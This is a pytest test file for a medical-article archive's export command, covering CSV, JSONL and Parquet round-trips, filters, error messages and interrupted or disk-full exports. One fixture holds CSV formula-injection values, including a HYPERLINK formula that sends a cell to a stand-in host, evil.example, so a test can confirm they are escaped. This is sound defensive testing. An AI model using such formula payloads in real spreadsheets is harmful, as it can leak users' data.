"""`medarchive export`: every format read back by its own reader equals the archive's rows; the
filters select what `search` would; bad input gets one line; an interrupted export leaves no file."""

import csv
import io
import json
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from contextlib import closing

import pytest

from archive.files import CannotWrite, replaced_atomically
from conftest import medarchive_in_process, written_archive
from test_full_disk import small_disk  # noqa: F401 (a fixture)

CITED = {"dois": "article_dois", "pmids": "article_pmids", "pmcids": "article_pmcids", "trials": "article_trials"}
#: The columns an export must have, in order (README: Export), listed here rather than taken
#: from the code under test, so that a column it drops fails the tests.
ARTICLE_COLUMNS = ["url", "id", "site", "title", "category", "published", "published_at", "published_raw",
                   "published_source", "body", "disclaimer", "authors", "editor", "source", "source_url", "modified",
                   "modified_raw", "description", "keywords", "language", "first_seen", "last_changed", "story"]
#: Lists of free text the archive stores as JSON text, and CSV writes as JSON text.
TEXT_LISTS = ("authors", "keywords")


def export(*args):
    """``medarchive export ARGS``, in this process: bytes of stdout are what a pipe would get."""
    return medarchive_in_process("export", *args)


def archive_rows(db_path, where="1", params=()) -> list[dict]:
    """The articles as the archive holds them, with what each cites, by a query of the test's own."""
    names = ARTICLE_COLUMNS
    with closing(sqlite3.connect(db_path)) as db:
        rows = [dict(zip(names, row)) for row in db.execute(f"select {', '.join(names)} from articles where {where} order by id", params)]
        for name, table in CITED.items():
            column = {"dois": "doi", "pmids": "pmid", "pmcids": "pmcid", "trials": "trial_id"}[name]
            cited = {}
            for url, value in db.execute(f"select article_url, {column} from {table} order by {column}"):
                cited.setdefault(url, []).append(value)
            for row in rows:
                row[name] = cited.get(row["url"], [])
        images = {}
        for url, image_url, alt, caption in db.execute("select article_url, url, alt, caption from article_images order by article_url, position"):
            images.setdefault(url, []).append({"url": image_url, "alt": alt, "caption": caption})
        for row in rows:
            row.update({name: json.loads(row[name]) if row[name] else [] for name in TEXT_LISTS}, images=images.get(row["url"], []))
    return rows


def read_jsonl(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines()]


def read_csv(text: str) -> list[dict]:
    """CSV as an analyst's reader gives it back: strings, lists split at ``;``, empty cells as None."""
    rows = []
    for row in csv.DictReader(io.StringIO(text, newline="")):
        row = {name: (value if value != "" else None) for name, value in row.items()}
        rows.append({**row, "id": int(row["id"]), "story": int(row["story"]), **{name: row[name].split(";") if row[name] else [] for name in CITED},
                     **{name: json.loads(row[name]) if row[name] else [] for name in (*TEXT_LISTS, "images")}})
    return rows


def test_jsonl_holds_every_article_with_what_it_cites(two_sites):
    result = export("--db", str(two_sites["db"]), "--format", "jsonl")
    assert result.returncode == 0, result.stderr
    exported = read_jsonl(result.stdout)
    expected = archive_rows(two_sites["db"])
    assert exported == expected
    assert {row["site"] for row in exported} == {two_sites["wordpress"], two_sites["dedecms"]}
    assert any(row["dois"] for row in exported) and any(row["trials"] for row in exported)
    assert all("\n" in row["body"] for row in exported if len(row["body"]) > 500)  # text kept whole, lines and all


def test_csv_reads_back_with_the_csv_module_and_opens_in_excel_with_bom(two_sites, tmp_path):
    plain = export("--db", str(two_sites["db"]), "--format", "csv")
    assert read_csv(plain.stdout) == archive_rows(two_sites["db"])
    assert not plain.stdout.startswith("\ufeff")
    target = tmp_path / "文章.csv"
    assert export("--db", str(two_sites["db"]), "-o", str(target), "--bom").returncode == 0
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfurl,id,site,")  # Excel reads UTF-8 only after the byte order mark
    assert read_csv(raw.decode("utf-8-sig")) == archive_rows(two_sites["db"])


#: Crawled text a spreadsheet would run as a formula, by column.
FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"详情")', "category": "+SUM(1,1)", "body": "-2+3 cmd",
            "disclaimer": "@SUM(1,1)", "published_raw": "\t=1+1", "editor": "=1+1", "source": "+cmd", "description": "-1"}


@pytest.fixture
def formulas(tmp_path):
    """An archive of one article whose crawled text starts like spreadsheet formulas."""
    return written_archive(tmp_path, [{"url": "https://site.example/a/1.html", "site": "https://site.example", "body_html": "<p>x</p>",
                                       "references": [], "dois": [], "pmids": [], "pmcids": [], **FORMULAS}])


def test_csv_cells_that_start_like_a_formula_are_written_as_text(formulas):
    row = read_csv(export("--db", str(formulas), "--format", "csv").stdout)[0]
    assert {name: row[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}


def test_raw_csv_keeps_the_cells_as_stored(formulas):
    row = read_csv(export("--db", str(formulas), "--format", "csv", "--raw").stdout)[0]
    assert {name: row[name] for name in FORMULAS} == FORMULAS


#: An article's metadata as a page may give it: names with a ``;``, quotes and commas in captions.
METADATA = {"authors": ["张三;李四", '王"五'], "keywords": ["哮喘", "a,b"], "modified": "2026-03-02", "language": "zh",
            "images": [{"url": "https://site.example/1.jpg", "alt": "图,1", "caption": '说明"引号"'},
                       {"url": "https://site.example/2.jpg", "alt": None, "caption": None}]}


@pytest.fixture
def with_metadata(tmp_path):
    """An archive of one article with authors, keywords and images."""
    return written_archive(tmp_path, [{"url": "https://site.example/a/1.html", "site": "https://site.example", "title": "t",
                                       "body": "b", "body_html": "<p>b</p>", **METADATA}])


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_authors_keywords_and_images_read_back_as_lists(with_metadata, fmt):
    text = export("--db", str(with_metadata), "--format", fmt).stdout
    row = (read_csv if fmt == "csv" else read_jsonl)(text)[0]
    assert {name: row[name] for name in METADATA} == METADATA


def test_parquet_holds_images_as_structs(with_metadata, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet", reason="pip install 'medarchive[parquet]'")
    target = tmp_path / "articles.parquet"
    assert export("--db", str(with_metadata), "-o", str(target)).returncode == 0
    row = pq.read_table(target).to_pylist()[0]
    assert {name: row[name] for name in METADATA} == METADATA


def test_parquet_reads_back_with_pyarrow(two_sites, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet", reason="pip install 'medarchive[parquet]'")
    target = tmp_path / "articles.parquet"
    result = export("--db", str(two_sites["db"]), "-o", str(target), "--html")
    assert result.returncode == 0, result.stderr
    expected = archive_rows(two_sites["db"])
    table = pq.read_table(target)
    assert table.column_names == [*ARTICLE_COLUMNS[:10], "body_html", *ARTICLE_COLUMNS[10:], *CITED, "images"]
    assert str(table.schema.field("dois").type) == "list<element: string>"
    exported = table.to_pylist()
    assert [{k: v for k, v in row.items() if k != "body_html"} for row in exported] == expected
    with closing(sqlite3.connect(two_sites["db"])) as db:
        assert [row["body_html"] for row in exported] == [html for (html,) in db.execute("select body_html from articles order by id")]
    assert result.stderr.strip() == f"{len(expected)} articles -> {target}"


def test_stdout_and_a_file_get_the_same_bytes(two_sites, tmp_path):
    for fmt in ("csv", "jsonl"):
        target = tmp_path / f"out.{fmt}"
        to_file = export("--db", str(two_sites["db"]), "-o", str(target))  # the format from the suffix
        assert to_file.returncode == 0 and to_file.stdout == ""
        assert target.read_text("utf-8") == export("--db", str(two_sites["db"]), "--format", fmt).stdout


def test_a_reader_that_stops_early_ends_the_export_quietly(tmp_path):
    many_articles(tmp_path / "archive.db", 2000)  # 8 MB of JSON: far more than a pipe holds while `head` goes away
    process = subprocess.Popen([sys.executable, "-m", "medarchive", "export", "--db", str(tmp_path / "archive.db"), "--format", "jsonl"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert json.loads(process.stdout.readline())["id"] == 1
    process.stdout.close()
    assert process.wait(timeout=60) == 0
    assert process.stderr.read() == b""


def test_dates_site_and_category_select_what_sql_selects(two_sites):
    db = str(two_sites["db"])
    days = sorted(day for (day,) in sqlite3.connect(db).execute("select published_day from articles where published_day is not null"))
    since, until = days[len(days) // 4], days[3 * len(days) // 4]
    dated = read_jsonl(export("--db", db, "--format", "jsonl", "--since", since, "--until", until).stdout)
    assert dated == archive_rows(db, "published_day between ? and ?", [since, until])
    assert 0 < len(dated) < len(days)
    host = two_sites["dedecms"].split("://")[1]
    by_host = read_jsonl(export("--db", db, "--format", "jsonl", "--site", host).stdout)
    assert by_host == archive_rows(db, "site = ?", [two_sites["dedecms"]]) and by_host
    assert read_jsonl(export("--db", db, "--format", "jsonl", "--site", two_sites["dedecms"] + "/").stdout) == by_host
    # A category the replica also spells in Traditional characters (幹細胞研究, 干细胞研究): one group.
    (category,) = sqlite3.connect(db).execute(
        "select min(category) from articles group by category_group having count(distinct category) = 2 order by 1 limit 1"
    ).fetchone()
    by_category = read_jsonl(export("--db", db, "--format", "jsonl", "--category", category).stdout)
    assert by_category == archive_rows(db, "category_group = (select category_group from articles where category = ?)", [category])
    assert len({row["category"] for row in by_category}) == 2


def test_query_exports_every_article_search_finds(two_sites):
    db = str(two_sites["db"])
    exported = read_jsonl(export("--db", db, "--format", "jsonl", "--query", "哮喘").stdout)
    assert exported == archive_rows(db, "instr(title, '哮喘') or instr(body, '哮喘')")
    searched = json.loads(medarchive_in_process("search", "哮喘", "--db", db, "--json", "--limit", "1000").stdout)
    assert {row["url"] for row in exported} == {hit["url"] for hit in searched}


def one_error_line(result, status: int) -> str:
    assert result.returncode == status, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    return result.stderr.strip().splitlines()[-1]


@pytest.mark.parametrize(("args", "status", "message"), [
    (["--format", "xlsx"], 2, "Error: Invalid value for '--format': 'xlsx' is not one of 'csv', 'jsonl', 'parquet', 'warc', 'wacz'."),
    (["--format", "parquet"], 2, "Error: Parquet is a binary file: give -o FILE"),
    ([], 2, "Error: say which --format (csv, jsonl, parquet, warc or wacz), or give -o FILE ending in .csv, .jsonl, .parquet, .warc.gz or .wacz"),
    (["-o", "articles.txt"], 2, "Error: -o articles.txt: its suffix names no format (.csv, .jsonl, .ndjson, .parquet, .warc, .warc.gz, .wacz); say which --format"),
    (["--since", "2025-02-01", "--until", "2025-01-01"], 2, "Error: --since 2025-02-01 is after --until 2025-01-01: no day is both"),
    (["--format", "jsonl", "--bom"], 2, "Error: --bom is for CSV only"),
    (["--format", "jsonl", "--raw"], 2, "Error: --raw is for CSV only"),
    (["--format", "csv", "--since", "2025-02-30"], 2, "Error: Invalid value for '--since': '2025-02-30' is not a date like 2025-01-31"),
    (["--format", "csv", "--until", "20250131"], 2, "Error: Invalid value for '--until': '20250131' is not a date like 2025-01-31"),
    (["--format", "csv", "--since", "2025-02-01", "--until", "2025-01-01"], 2, "Error: --since 2025-02-01 is after --until 2025-01-01: no day is both"),
    (["--format", "csv", "--query", '"哮喘'], 2, "Error: cannot read the query '\"哮喘': "),
    (["-o", "/nonexistent-dir/a.csv"], 1, "Error: the directory /nonexistent-dir does not exist; create it or choose another -o"),
    (["-o", "/proc/a.csv"], 1, "Error: cannot write /proc/a.csv ("),
])
def test_bad_input_gets_one_line_and_an_exit_status(two_sites, args, status, message):
    assert one_error_line(export("--db", str(two_sites["db"]), *args), status).startswith(message)


def test_parquet_without_pyarrow_says_what_to_install(two_sites, tmp_path):
    without_pyarrow = "import sys; sys.modules['pyarrow'] = None; from medarchive.cli import cli; cli()"
    result = subprocess.run([sys.executable, "-c", without_pyarrow, "export", "--db", str(two_sites["db"]), "-o", str(tmp_path / "a.parquet")],
                            capture_output=True, text=True, timeout=60)
    assert one_error_line(result, 1) == "Error: Parquet needs pyarrow: pip install 'medarchive[parquet]'"
    assert list(tmp_path.iterdir()) == []


def test_the_archive_itself_is_never_the_output(two_sites, tmp_path):
    copy = tmp_path / "archive.db"
    shutil.copy(two_sites["db"], copy)
    before = copy.read_bytes()
    assert one_error_line(export("--db", str(copy), "-o", str(copy), "--format", "csv"), 2).endswith("is the archive itself; choose another file")
    assert copy.read_bytes() == before


def test_a_missing_archive_is_named(tmp_path):
    assert "medarchive crawl" in one_error_line(export("--db", str(tmp_path / "none.db"), "--format", "csv"), 1)


def test_a_failed_export_leaves_neither_the_file_nor_a_partial_one(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("the previous export")
    with pytest.raises(KeyboardInterrupt), replaced_atomically(target) as binary:
        binary.write(b"url,id\n" * 1000)
        raise KeyboardInterrupt
    assert target.read_text() == "the previous export" and sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    with pytest.raises(CannotWrite, match="is a directory"), replaced_atomically(tmp_path):
        pass


def many_articles(path, n: int) -> None:
    """An archive of ``n`` articles written straight into ``articles`` (no search index needed to export)."""
    from archive import open_archive

    open_archive(path).close()
    body = "间充质干细胞治疗膝骨关节炎的随机对照试验结果显示疗效与安全性均良好。\n" * 40
    with closing(sqlite3.connect(path)) as db, db:
        db.executemany(
            "insert into articles (url, id, site, title, published, body, first_seen, last_fetched) values (?, ?, ?, ?, ?, ?, ?, ?)",
            ((f"https://a.example/{i}.html", i, "https://a.example", f"文章{i}", "2025-01-01", body, "2025-01-01", "2025-01-01") for i in range(1, n + 1)),
        )


def sigterm_once_written(args, partial):
    """Run ``medarchive ARGS``, send it SIGTERM once ``partial`` holds bytes; its exit status and stderr."""
    process = subprocess.Popen([sys.executable, "-m", "medarchive", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not (partial.exists() and partial.stat().st_size) and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.002)
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=60)
    return process.returncode, stderr


def test_a_killed_export_leaves_no_half_file(tmp_path):
    db, target = tmp_path / "big.db", tmp_path / "out.csv"
    many_articles(db, 20_000)
    status, stderr = sigterm_once_written(["export", "--db", str(db), "-o", str(target)], tmp_path / "out.csv.partial")
    assert status == 1, stderr
    assert stderr.strip() == f"Error: interrupted; {target} was not written"
    assert list(tmp_path.iterdir()) == [db] or sorted(tmp_path.iterdir()) == sorted([db, tmp_path / "big.db-shm", tmp_path / "big.db-wal"])


def test_an_export_that_fills_the_disk_says_so_and_keeps_the_previous_file(tmp_path, small_disk):
    many_articles(tmp_path / "archive.db", 1000)  # 4 MB of CSV for a 1 MB disk
    target = small_disk / "out.csv"
    target.write_text("the previous export")
    result = export("--db", str(tmp_path / "archive.db"), "-o", str(target))
    assert one_error_line(result, 1) == f"Error: the disk holding {target} is full; {target} was not written"
    assert target.read_text() == "the previous export" and list(small_disk.iterdir()) == [target]
